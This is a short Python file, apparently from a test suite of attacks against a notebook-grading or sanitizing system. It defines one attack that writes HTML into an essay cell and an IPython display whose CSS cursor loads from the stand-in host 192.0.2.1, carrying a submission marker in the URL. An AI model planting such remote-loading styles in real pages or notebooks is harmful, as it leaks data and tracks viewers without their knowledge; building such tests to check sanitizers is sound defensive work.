"""Writes a style whose mouse pointer is loaded from elsewhere."""

from attacks.attack import Attack, Submission


def change(submission: Submission) -> None:
    """Write it into a text too."""
    submission.cell("essay")["source"] = (
        f"<p style='cursor:url(http://192.0.2.1/{submission.scene.mark}.cur),auto'>An answer</p>"
    )


ATTACK = Attack(
    __doc__,
    nl="Schrijft een stijl waarvan de muisaanwijzer van elders komt.",
    code="""
from IPython.display import HTML, display
display(HTML(f"<p style='cursor:url(http://192.0.2.1/{MARK}.cur),auto'>An answer</p>"))
""",
    change=change,
)
